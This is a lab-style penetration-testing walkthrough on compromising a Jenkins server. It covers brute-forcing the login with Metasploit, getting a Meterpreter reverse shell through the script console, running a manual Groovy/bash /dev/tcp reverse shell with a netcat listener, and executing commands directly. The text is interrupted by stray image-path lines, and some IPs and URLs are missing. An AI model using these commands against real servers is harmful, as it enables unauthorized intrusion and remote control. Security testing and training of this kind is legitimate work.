Penetration Testing

Jenkins Penetration Testing

Jenkins is an open-source automation server used for continuous integration (CI) and continuous delivery (CD). It’s built on Java and utilizes a scripting platform for automation. Jenkins automates tasks such as building, testing, and deployment in the software development lifecycle. This automation accelerates development cycles, enhances code quality, and streamlines releases. Key features include CI/CD pipelines, automated testing, integration with version control systems, extensibility via plugins, and robust monitoring and reporting capabilities.

Table of Contents

  • Lab Setup
  • Installation
  • Configuration
  • Enumeration
  • Exploitation using Metasploit Framework
  • Exploiting Manually (Reverse Shell)
  • Executing Shell Commands Directly
  • Conclusion

Lab Setup

In this article, we are going to setup the Jenkins server on the ubuntu machine and obtain the remote code execution. Following are the machines:

Target Machine: Ubuntu (

Attacker Machine: Kali Linux (


For Jenkins to function, it necessitates the Java Runtime Environment (JRE). In this guide, we’ll utilize OpenJDK to establish the Java environment. OpenJDK’s development kit incorporates JRE within itsframework.

apt install openjdk-11-jdk

At times, the default Ubuntu repository may lack the latest Jenkins version. Therefore, it is suggested opting for the project-maintained repository to access the most recent features and patches.

To integrate the Jenkins repository into the Ubuntu system, adhere to the following:

Begin by importing the GPG key to ensure package integrity.

sudo curl -fsSL | sudo tee /usr/share/keyrings/jenkins-keyring.asc >/dev/null

Following that, incorporate the Jenkins repository and append the authentication key to the source list using the command provided below:

sudo echo deb [signed-by=/usr/share/keyrings/jenkins-keyring.asc] binary/ | sudo tee /etc/apt/sources.list.d/jenkins.list > /dev/null

Now we can proceed with the Jenkins installation in the ubuntu machine.

apt install jenkins

After installation is complete, Jenkins can be started using the following command:

systemctl start jenkins

Status can be checked using the following command:

systemctl status jenkins


Post installation, Jenkins can be configured to run smoothly. By checking the service running on port 8080, the Jenkins server requires an Administrator password.

Password can be obtained by reading the content of the initialAdminPassword file.cat /var/lib/Jenkins/secrets/initialAdminPassword

Select the Install suggested plugins to CustomizeJenkins and proceed with the installation.

The final step requires the creation of First Admin User username and password. Here we are using the username as raj and password as 123.

Finally, entering the URL to access the Jenkins Server. The URL can be entered as as we want to setup the server on the ubuntu machine.


After successfully installing and configuring the Jenkins server, we can start the exploitation using the kali machine. Starting with the enumeration, since at port 8080 the Jenkins Server is running in the ubuntu machine hence checking the port 8080. At port 8080 there is a Jenkins login page which requires credentials.

Exploitation using Metasploit Framework:

Since the login page requires credentials, hence we can use the auxiliaryavailable in the Metasploit framework to check for the valid username and password to login. The auxiliary which we will be using will require a username file and a password file.

It can be noted that for CTF scenarios the username file can be used as the common usernames list (  and password file can be used as rockyou.txt. However, here we are using a custom dictionary to make the scanning easier. The following commands can be used inside Metasploit framework:

use auxiliary/scanner/http/jenkins_login
set rhosts
set rport 8080
set targeturi /
set user_file users.txt
set pass_file passwords.txt
set verbose false

Observe that the username and password have been enumeratedsuccessfully. After the username and password have been enumerated, now its time use them to exploit the target. The exploit which can be used here is the exploit/multi/http/Jenkins_script_console. Following commands can be used inside Metasploit framework to run the exploit:

use exploit/multi/http/jenkins_script_console
show targets
set target 1
set payloadlinux/x64/meterpreter/reverse_tcp
set rhosts
set rport 8080
set targeturi /
set username raj
set password 123

Observe that the reverse shell has been obtained after the exploit has been successfully executed.

Exploiting Manually (Reverse Shell)To exploit manually, we require the username and password of the Jenkins Console. Assuming here that the attacker has already found the credentials either by brute forcing or through any other method, successful login into the console can be performed.

After login using the previously found credentials (raj:123) from the auxiliary. The Manage Jenkins functionality can be accessed which contains a Script Console functionality.

In Jenkins, Groovy serves as the main scripting language for defining jobs and pipelines. Groovy, being dynamic and operating on the Java Virtual Machine (JVM), seamlesslyintegrates with Jenkins, which is predominantly Java-based.  Therefore, we are going to use the groovy reverse shell script to obtain the reverse shell. The command for the groovy reverse shell can be obtained from the following URL: and selecting the Groovy script payload.

Now, using the above groovy reverse shell script in the Jenkins script console. Before running the script make sure to start the netcat listener at port 443 inside kali machine using the following command:

rlwrap nc -lnvp 443

Finally, the reverse shell is obtained at port 443 after running the above groovy script.

An alternate way to get the reverse shell can be by running the following script in thescript console:

r = Runtime.getRuntime()
p= r.exec(["/bin/bash", "-c", "exec 5<>/dev/tcp/; cat <&5 | while read line; do \$line 2>&5 >&5; done"] as String[])

Make sure to start the listener at port 443 before running the script.

Observe that the reverse shell is obtained at port 443 after the execution of the script.

Executing Shell Commands Directly

There are cases where we don’t have a listener to take the reverse shell. In those cases, we can directly run the script and obtain the output of the code in the Result window.

The following code is used to get the output of the system commands:

def sout = new StringBuffer(), serr = new StringBuffer()
def proc = 'ipconfig'.execute()
proc.consumeProcessOutput(sout, serr)
println "out> $sout err> $serr"

Observe that after running the script the output can be seen directly in the Result window.

A similar code which can be used to get the command output in the Result window can be:

def proc = "id".execute();
def os = new StringBuffer();
proc.waitForProcessOutput(os, System.err);

Observe that after running the script the output can be seen directly in the Result window.


In summary, the possibility of using Jenkins servers to gain a reverse shell emphasizes the crucial need for strong security practices. Whether due to compromised logins or no authentication at all, the vulnerability of Jenkinsservers shows why we must take security seriously. It’s essential for organizations to enforce strict access rules, conduct regular security checks, and promptly update systems to reduce the chancesof unauthorized access and misuse.

Author:Vinayak Chauhan is an InfoSec researcher and SecurityConsultant. Contact here